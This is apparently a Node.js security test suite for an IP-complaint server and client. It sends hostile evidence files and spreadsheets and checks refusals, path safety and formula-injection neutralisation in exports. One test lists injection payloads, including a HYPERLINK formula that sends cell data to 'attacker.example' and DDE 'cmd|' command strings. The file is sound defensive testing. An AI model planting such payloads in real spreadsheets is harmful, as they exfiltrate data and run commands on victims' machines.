// Hostile files against the real server and the real client: each is refused or accepted as the
// rules say, with the right issue code, quickly, without a crash, and nothing is written outside
// the server's data folder (stored names are the server's own).
// Fixtures: reliability/make-fixtures.mjs (made on first run into reliability/.fixtures/).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
  existsSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import * as XLSX from 'xlsx';
import { startServer } from '@ipr/server/node';
import { TOKENS } from '@ipr/server/demo-accounts';
import { createIprClient, createTemplate, importLinks } from '@ipr/client';
import { draftOfA, ensureFixtures, FIXTURES_DIR, link } from './make-fixtures.mjs';

const FORMULA_START = /^[=+\-@\t\r]/;
const sha256 = (bytes) => createHash('sha256').update(bytes).digest('hex');

let fixtures;
let root, dataDir, server, client, before0;
const timings = [];
const serverErrors = [];

/** Every file under `dir` (relative path → size and mtime), skipping `skip` (a relative folder). */
function walk(dir, skip, base = dir, out = new Map()) {
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const full = join(dir, entry.name);
    const rel = full.slice(base.length + 1);
    if (skip && (rel === skip || rel.startsWith(skip + '/'))) continue;
    if (entry.isDirectory()) walk(full, skip, base, out);
    else {
      const s = statSync(full);
      out.set(rel, `${s.size}:${s.mtimeMs}`);
    }
  }
  return out;
}

const bytesOf = (f) => readFileSync(join(FIXTURES_DIR, f.file));

before(async () => {
  const t = performance.now();
  fixtures = await ensureFixtures();
  console.log(
    `# fixtures ready in ${(performance.now() - t).toFixed(0)} ms (${fixtures.length} files in ${FIXTURES_DIR})`,
  );
  // A sandbox: the data folder and a sibling "canary" folder that must not change.
  root = mkdtempSync(join(tmpdir(), 'ipr-hostile-'));
  dataDir = join(root, 'data');
  mkdirSync(join(root, 'canary', 'deep'), { recursive: true });
  writeFileSync(join(root, 'canary', 'deep', 'keep.txt'), 'untouched');
  before0 = walk(root, 'data');
  server = await startServer({
    port: 0,
    dataDir,
    seed: true,
    catalogueSize: 600,
    onError: (e) => {
      serverErrors.push(String(e));
      console.error('[server] unexpected error:', e);
    },
  });
  client = createIprClient({ baseUrl: server.url, token: TOKENS.complainantA, retry: false });
});

after(async () => {
  await server?.close();
  if (timings.length) {
    console.log('# file                     name sent as                         outcome                      ms');
    // Names as JSON with bidi and other invisible characters escaped, so the log shows them.
    const shown = (name) =>
      JSON.stringify(name).replace(
        /[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/g,
        (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
      );
    for (const t of timings)
      console.log(
        `# ${t.file.padEnd(24)} ${shown(t.name).slice(0, 36).padEnd(36)} ${t.outcome.padEnd(28)} ${t.ms.toFixed(0).padStart(6)}`,
      );
  }
  if (root) rmSync(root, { recursive: true, force: true });
});

/** The raw multipart upload (no client-side check): what the server itself decides. */
async function rawUpload(bytes, name) {
  const body = new FormData();
  body.append('file', new File([bytes], name));
  const res = await fetch(`${server.url}/v1/evidence`, {
    method: 'POST',
    headers: { authorization: `Bearer ${TOKENS.complainantA}` },
    body,
  });
  const text = await res.text();
  let data;
  try {
    data = JSON.parse(text);
  } catch {
    data = text;
  }
  return { status: res.status, data, type: res.headers.get('content-type') ?? '' };
}

function checkStoredName(f, name) {
  assert.ok(name.length > 0 && name.length <= 255, `${f.file}: stored name length ${name.length}`);
  assert.doesNotMatch(
    name,
    /[\\/\u0000-\u001f\u202a-\u202e\u2066-\u2069]/,
    `${f.file}: stored name ${JSON.stringify(name)} is safe`,
  );
  assert.ok(!name.startsWith('.'), `${f.file}: no leading dot`);
  if (f.expect.storedName) assert.equal(name, f.expect.storedName);
  if (f.expect.storedLength) assert.equal(name.length, f.expect.storedLength);
  if (f.expect.storedExt) assert.ok(name.endsWith(f.expect.storedExt));
}

describe('evidence files through HTTP', () => {
  test("each hostile evidence file: the client refuses it first with the server's code, the server refuses or stores it as the rules say", async () => {
    const evidence = fixtures.filter((f) => f.use === 'evidence');
    assert.ok(evidence.length >= 14);
    for (const f of evidence) {
      const bytes = bytesOf(f);
      // 1. Through @ipr/client (checks before sending, then the server checks again).
      let t = performance.now();
      const viaClient = await client.evidence.upload(new File([bytes], f.name));
      const clientMs = performance.now() - t;
      // 2. Straight to the server: the server's own decision.
      t = performance.now();
      const raw = await rawUpload(bytes, f.name);
      const rawMs = performance.now() - t;
      assert.ok(raw.status < 500, `${f.file}: ${raw.status}`);
      if (f.expect.ok) {
        assert.ok(viaClient.data, `${f.file} via client: ${JSON.stringify(viaClient.error)}`);
        assert.equal(raw.status, 201, `${f.file} raw: ${JSON.stringify(raw.data).slice(0, 300)}`);
        for (const stored of [viaClient.data, raw.data]) {
          checkStoredName(f, stored.name);
          assert.equal(stored.size, bytes.length);
          assert.equal(stored.sha256, sha256(bytes), `${f.file}: sha256 as sent`);
          // The bytes come back whole, as an attachment that is never sniffed.
          const down = await fetch(`${server.url}/v1/evidence/${stored.id}/content`, {
            headers: { authorization: `Bearer ${TOKENS.complainantA}` },
          });
          assert.equal(down.status, 200);
          assert.match(down.headers.get('content-disposition') ?? '', /^attachment;/);
          assert.equal(down.headers.get('x-content-type-options'), 'nosniff');
          assert.equal(sha256(new Uint8Array(await down.arrayBuffer())), sha256(bytes));
        }
        // The other accounts cannot see it.
        const other = await fetch(`${server.url}/v1/evidence/${raw.data.id}/content`, {
          headers: { authorization: `Bearer ${TOKENS.complainantB}` },
        });
        assert.equal(other.status, 404);
      } else {
        assert.equal(
          viaClient.error?.code,
          f.expect.code,
          `${f.file} via client: ${JSON.stringify(viaClient.error ?? viaClient.data).slice(0, 300)}`,
        );
        assert.equal(viaClient.error.status, f.expect.status);
        assert.equal(viaClient.response, undefined, `${f.file}: refused before the network`);
        assert.equal(raw.status, f.expect.status, `${f.file} raw: ${JSON.stringify(raw.data).slice(0, 300)}`);
        assert.match(raw.type, /^application\/problem\+json/);
        assert.equal(raw.data.code, f.expect.code, `${f.file} raw`);
        assert.ok(raw.data.issues.every((i) => typeof i.message === 'string' && i.message.length > 0));
      }
      const ms = Math.max(clientMs, rawMs);
      assert.ok(ms < 5000, `${f.file}: ${ms.toFixed(0)} ms`);
      timings.push({
        file: f.file,
        name: f.name,
        outcome: f.expect.ok ? 'stored (201)' : `${f.expect.status} ${f.expect.code}`,
        ms,
      });
    }
  });
});

describe('spreadsheets through importLinks (Node, resolving against the server)', () => {
  test('each hostile sheet: refused with its sheet.* code or read within the limits, quickly', async () => {
    for (const f of fixtures.filter((x) => x.use === 'sheet')) {
      const bytes = bytesOf(f);
      const t = performance.now();
      const result = await importLinks(new File([bytes], f.name), { client });
      const ms = performance.now() - t;
      assert.ok(ms < (f.expect.slowMs ?? 5000), `${f.file}: ${ms.toFixed(0)} ms`);
      if (!f.expect.ok) {
        assert.equal(result.ok, false, `${f.file} should be refused`);
        assert.deepEqual(
          result.issues.map((i) => i.code),
          [f.expect.code],
          f.file,
        );
        // The message names the file by its safe name, never the hostile one.
        assert.doesNotMatch(result.issues[0].message, /[\u0000\u202e]/);
      } else {
        assert.ok(result.ok, `${f.file}: ${JSON.stringify(result.issues ?? '')}`);
        assert.equal(result.resolveError, undefined, `${f.file}: resolved against the server`);
        if (f.expect.valid !== undefined) assert.equal(result.summary.valid, f.expect.valid, `${f.file} valid`);
        if (f.expect.byStatus) assert.deepEqual(result.summary.byStatus, f.expect.byStatus, `${f.file} byStatus`);
        if (f.expect.unreadRows !== undefined)
          assert.equal(result.summary.unreadRows, f.expect.unreadRows, `${f.file} unreadRows`);
        for (const [row, status] of Object.entries(f.expect.rows ?? {})) {
          const got = result.rows.find((r) => r.row === Number(row));
          assert.equal(got?.status, status, `${f.file}: row ${row} (${JSON.stringify(got?.input)})`);
          if (status === 'formula') assert.equal(got.issue?.code, 'sheet.formula_cell');
        }
        // Only well-formed product links go on: no formula, no "+cmd|", no external target.
        for (const r of result.valid)
          assert.match(r.url, /^https:\/\/market\.example\/product\/p\d{6}$/, `${f.file}: row ${r.row}`);
        for (const r of result.valid) assert.ok(r.product, `${f.file}: row ${r.row} resolved`);
      }
      const outcome = result.ok
        ? `ok ${result.summary.valid} valid/${result.summary.invalid} invalid`
        : result.issues[0].code;
      timings.push({ file: f.file, name: f.name, outcome, ms });
      const inflated = f.inflated ? ` (sheet XML inflates to ${(f.inflated / 1024 ** 3).toFixed(2)} GiB)` : '';
      if (f.expect.slowMs) console.log(`# ${f.file}: ${ms.toFixed(0)} ms, ${outcome}${inflated}`);
    }
  });
});

describe('spreadsheets the SDK writes neutralise formula injection', () => {
  const cellsOf = (bytes, type = 'array') => {
    const wb = XLSX.read(bytes, { type, cellFormula: true, raw: true });
    const out = [];
    for (const name of wb.SheetNames) {
      const ws = wb.Sheets[name];
      for (const [ref, cell] of Object.entries(ws))
        if (!ref.startsWith('!')) out.push({ sheet: name, ref, v: cell.v, f: cell.f });
    }
    return out;
  };

  test('createTemplate (en, zh-CN): no formulas, no cell starting with = + - @ tab or CR', async () => {
    for (const locale of ['en', 'zh-CN']) {
      const cells = cellsOf(new Uint8Array(await (await createTemplate({ locale })).arrayBuffer()));
      assert.ok(cells.length > 5);
      for (const c of cells) {
        assert.equal(c.f, undefined, `${locale} ${c.sheet}!${c.ref} is not a formula`);
        if (typeof c.v === 'string') assert.doesNotMatch(c.v, FORMULA_START, `${locale} ${c.sheet}!${c.ref}: ${c.v}`);
      }
    }
  });

  test('client.complaints.exportStatus (xlsx, csv): product names a seller wrote as formulas are written inert', async (t) => {
    if (typeof client.complaints.exportStatus !== 'function') {
      t.skip('client.complaints.exportStatus has not landed yet (the bulk status export)');
      return;
    }
    // Product names are the sellers' text: the one free text in a status report. Put hostile
    // ones in the catalogue (straight into the server's database) and file a complaint on them.
    const hostile = [
      '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
      "+cmd|' /C calc'!A0",
      "-1+cmd|' /C calc'!A0",
      '@SUM(1)',
      '\t=1+1 attacker.example',
      '\r=1+1 attacker.example',
    ];
    const ids = hostile.map((_, i) => `prod_hostile_${i}`);
    const urls = hostile.map((_, i) => link(990_001 + i));
    await server.db.query(
      `insert into products (id, url, name, supplier_id, category, listed)
       select x.id, x.url, x.name, 'acc_supplier_a', 'Hostile', true from unnest($1::text[], $2::text[], $3::text[]) as x(id, url, name)
       on conflict (id) do nothing`,
      [ids, urls, hostile],
    );
    const made = await client.complaints.create(
      draftOfA({ type: 'copyright_infringement', productLinks: urls, description: 'Hostile product names.' }),
      { idempotencyKey: `hostile-export-${Date.now()}` },
    );
    assert.ok(made.data, JSON.stringify(made.error));
    const platform = createIprClient({ baseUrl: server.url, token: TOKENS.platform, retry: false });
    for (const [who, c] of [
      ['complainant', client],
      ['platform', platform],
    ]) {
      for (const format of ['xlsx', 'csv']) {
        for (const locale of ['en', 'zh-CN']) {
          const out = await c.complaints.exportStatus({ format, locale });
          assert.ok(out.data, `${who} ${format}: ${JSON.stringify(out.error)}`);
          assert.ok(out.data.rows >= hostile.length);
          const bytes = new Uint8Array(await out.data.blob.arrayBuffer());
          const text = format === 'csv' ? new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) : '';
          if (format === 'csv') assert.ok(text.startsWith('\ufeff'), 'CSV is UTF-8 with BOM');
          const cells = format === 'xlsx' ? cellsOf(bytes) : cellsOf(text.replace(/^\ufeff/, ''), 'string');
          const named = cells.filter((c) => typeof c.v === 'string' && /attacker\.example|cmd\||SUM\(1\)/.test(c.v));
          assert.ok(
            named.length >= hostile.length,
            `${who} ${format} ${locale}: the hostile names are in the export (${named.length})`,
          );
          for (const c of cells) {
            assert.equal(c.f, undefined, `${who} ${format} ${c.ref} is not a formula`);
            if (typeof c.v === 'string')
              assert.doesNotMatch(c.v, FORMULA_START, `${who} ${format} ${c.ref}: ${JSON.stringify(c.v)}`);
          }
          if (format === 'csv') {
            // Every CSV field, as a spreadsheet program reads it, starts inert.
            const body = text.replace(/^\ufeff/, '');
            const fields = [];
            let field = '',
              quoted = false;
            for (let i = 0; i < body.length; i++) {
              const ch = body[i];
              if (quoted) {
                if (ch === '"' && body[i + 1] === '"') {
                  field += '"';
                  i++;
                } else if (ch === '"') quoted = false;
                else field += ch;
              } else if (ch === '"' && field === '') quoted = true;
              else if (ch === ',' || ch === '\n') {
                fields.push(field.replace(/\r$/, ''));
                field = '';
              } else field += ch;
            }
            if (field) fields.push(field);
            for (const f of fields)
              assert.doesNotMatch(f, FORMULA_START, `${who} csv ${locale} field ${JSON.stringify(f)}`);
          }
        }
      }
    }
  });
});

describe('nothing is written outside the data folder', () => {
  test('no request made the server fail (no 500, no unexpected error)', () => {
    assert.deepEqual(serverErrors, []);
  });

  test('the sandbox outside data/ is unchanged; stored files have server-chosen names; no hostile name became a path', async () => {
    // Everything beside the data folder is exactly as before.
    assert.deepEqual([...walk(root, 'data')], [...before0]);
    // Inside the data folder: the database and evidence files named by the server only.
    const top = readdirSync(dataDir).sort();
    assert.deepEqual(top, ['evidence', 'pglite']);
    const stored = readdirSync(join(dataDir, 'evidence'));
    assert.ok(stored.length >= 10);
    for (const name of stored) assert.match(name, /^(f[0-9a-f]{32}|seed_[a-z0-9_]+)$/, `evidence file ${name}`);
    const all = [...walk(dataDir).keys()];
    assert.ok(
      all.every((p) => !/MARKER|\.\.|\u202e|\u0000/i.test(p)),
      'no client-given name in the data folder',
    );
    // Where a hostile name would have landed, had it been used as a path: nothing.
    const names = fixtures.filter((f) => f.use === 'evidence').map((f) => f.name.replace(/\u0000/g, ''));
    for (const base of [join(dataDir, 'evidence'), dataDir, process.cwd(), root]) {
      for (const name of names) {
        for (const candidate of [resolve(base, name), resolve(base, name.replace(/\\/g, '/'))]) {
          if (candidate.startsWith(root) && candidate.startsWith(dataDir)) continue; // inside data: covered above
          if (/MARKER/.test(candidate)) assert.equal(existsSync(candidate), false, candidate);
        }
      }
    }
    // And no file carrying the marker anywhere in the temp folder's top level or the checkout's.
    for (const dir of [tmpdir(), '/tmp', process.cwd(), join(process.cwd(), 'reliability')]) {
      assert.deepEqual(
        readdirSync(dir).filter((n) => n.includes('MARKER')),
        [],
        dir,
      );
    }
  });
});
